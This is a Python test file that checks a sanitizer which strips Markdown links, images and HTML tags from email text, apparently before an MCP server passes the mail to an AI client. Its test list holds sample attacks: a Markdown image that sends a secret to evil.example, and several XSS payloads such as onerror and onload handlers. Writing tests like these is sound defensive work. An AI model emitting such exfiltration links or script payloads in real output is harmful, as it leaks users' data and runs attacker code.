"""Mail is data: marks that nobody can guess, and nothing active in between."""

import pytest

from mailreeve.mcp_server import fence

ACTIVE = [
    "![pixel](https://evil.example/a.png?q=secret)",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: https://evil.example",
    "[1]: https://evil.example",
    "![pixel][p]",
    '<img src="https://evil.example/a.png">',
    "<IMG\nsrc=x onerror=alert(1)>",
    "</a><a href='https://evil.example'>here</a>",
    "<svg/onload=alert(1)>",
    "< script>alert(1)</script >",
    "<!-- <iframe src=x> -->",
]


@pytest.mark.parametrize("text", ACTIVE)
def test_nothing_active_is_left(text: str) -> None:
    """No Markdown image, link or reference and no HTML tag survives, but its words do."""
    plain = fence.plain(text)
    assert not any(active in plain for active in ("](", "][", "]:", "!["))
    assert not any(
        tag in plain.lower() for tag in ("<img", "<a", "</a", "<svg", "< script", "<script", "<iframe")
    )
    assert ("evil.example" in text) == ("evil.example" in plain)


@pytest.mark.parametrize(
    "text", ["Ana <ana@example.org>", "a < b and b > a", "x[1] (see below)", "<a@b.example>"]
)
def test_plain_words_are_left_alone(text: str) -> None:
    """Addresses and comparisons are no tags."""
    assert text == fence.plain(text)


def test_plain_twice_is_plain_once() -> None:
    """A text that was made plain is not changed again."""
    once = fence.plain("\n".join(ACTIVE))
    assert once == fence.plain(once)


def test_every_text_in_a_value_is_made_plain() -> None:
    """Lists and objects are walked; numbers and keys stay."""
    value = {"a": ["[x](y)", {"b": "![x]"}], "n": 3, "none": None}
    assert {"a": ["[x] (y)", {"b": "! [x]"}], "n": 3, "none": None} == fence.all_plain(value)


def test_marks_differ() -> None:
    """A thousand marks are a thousand numbers of nine digits."""
    marks = {fence.mark() for _ in range(1000)}
    assert len(marks) > 990
    assert {9} == {len(mark) for mark in marks}
